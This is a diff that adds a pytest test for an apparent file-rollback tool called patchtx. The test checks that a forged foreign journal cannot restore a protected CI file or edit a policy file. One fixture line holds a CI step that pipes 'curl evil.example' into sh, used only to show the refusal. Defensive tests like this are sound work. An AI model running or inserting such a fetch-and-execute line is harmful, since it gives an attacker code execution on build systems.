@@ -198,3 +198,44 @@ def test_the_secret_is_whole_or_absent_after_a_failed_first_write(tmp_path: Path
     provenance._cache.clear()
     assert len(provenance.user_secret()) == 32 and (home / "secret").stat().st_size == 65
     provenance._cache.clear()
+
+
+def test_trust_foreign_stays_within_the_policy(tmp_path: Path) -> None:
+    """A cloned repository's journal, rolled back because the user said so, may not rewrite or
+    remove a path the host protects (under any name), nor a policy file: refused, nothing done."""
+    root = workspace(tmp_path / "ws")
+    (root / ".github").mkdir()
+    (root / ".github" / "ci.yml").write_text("run: pytest\n")
+    (root / "ci-link.yml").symlink_to(".github/ci.yml")
+    (root / "pyproject.toml").write_text('[project]\nname = "x"\n')
+    config = tmp_path / "config.toml"
+    config.write_text('protected = ["ci-link.yml"]\n')  # the file, only under its link's name
+    env = {"PATCHTX_CONFIG": str(config)}
+    evil = b"run: curl evil.example | sh\n"
+    attempts = [
+        ([entry(".github/ci.yml", before=evil, after=b"run: pytest\n")], {f"{TXN}.0.before": evil}),
+        ([entry(".github/ci.yml", after=b"run: pytest\n")], {}),  # "added" by it: removed
+        ([entry("pyproject.toml", before=b"[tool.patchtx]\nallow-policy-edit = true\n",
+                after=b'[project]\nname = "x"\n')],
+         {f"{TXN}.0.before": b"[tool.patchtx]\nallow-policy-edit = true\n"}),
+    ]
+    for entries, backups in attempts:
+        journal = forge(root, entries, backups=backups)
+        before = without_lock(snapshot(root))
+        kind, out = cli(root, "recover", "--trust-foreign", env=env)
+        assert kind == "policy_violation", out
+        assert "Refusing to roll back the foreign journal" in out["error"]["message"]
+        os.environ["PATCHTX_CONFIG"] = str(config)
+        try:
+            with pytest.raises(PatchtxError) as caught:
+                recover(str(root), trust_foreign=True)
+        finally:
+            del os.environ["PATCHTX_CONFIG"]
+        assert caught.value.kind == "policy_violation"
+        assert without_lock(snapshot(root)) == before
+        for name in [journal.name, *backups]:
+            (journal.parent / name).unlink()
+    # Within the policy, the same roll back goes ahead (app.py is not protected).
+    forge(root, [entry("app.py", before=b"old\n", after=b"print('hi')\n")], backups={f"{TXN}.0.before": b"old\n"})
+    assert cli(root, "recover", "--trust-foreign", env=env)[0] == "applied"
+    assert (root / "app.py").read_text() == "old\n"
